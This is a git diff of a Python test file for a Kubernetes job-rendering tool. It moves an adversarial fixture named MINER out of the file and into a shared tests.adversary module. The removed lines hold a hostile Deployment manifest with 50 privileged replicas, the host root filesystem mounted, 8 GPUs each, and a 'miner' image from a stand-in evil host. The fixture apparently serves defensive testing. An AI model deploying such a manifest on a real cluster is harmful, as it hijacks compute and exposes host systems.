@@ -9,6 +9,7 @@ from typing import TYPE_CHECKING
 import pytest
 
 from gen.render.emit import digest_of, header
+from tests.adversary import miner
 from tests.commands.init.support import committed, git, run, wheel_source
 from tests.commands.init.test_ci import first_line, github_steps, gitlab, merged, proposed
 from tests.support import initialised
@@ -19,23 +20,7 @@ if TYPE_CHECKING:
     from pathlib import Path
 
 JOB = "kind: tensorflow\nimage: registry.example.com/a:1\ncommand: x\ntimeout: 1h\n"
-MINER = """\
-apiVersion: apps/v1
-kind: Deployment
-metadata: {name: zz, namespace: team-a}
-spec:
-  replicas: 50
-  selector: {matchLabels: {a: b}}
-  template:
-    metadata: {labels: {a: b}}
-    spec:
-      volumes: [{name: root, hostPath: {path: /}}]
-      containers:
-      - name: zz
-        image: evil.example.com/miner:1
-        securityContext: {privileged: true}
-        resources: {limits: {nvidia.com/gpu: 8}}
-"""
+MINER = miner.MINER.replace("namespace: team", "namespace: team-a")
 OVERLAY = "overlays/production/overlay.yaml"
 RUN = "rendered/production/jobs/team-a/running/tfjob-running.yaml"
 
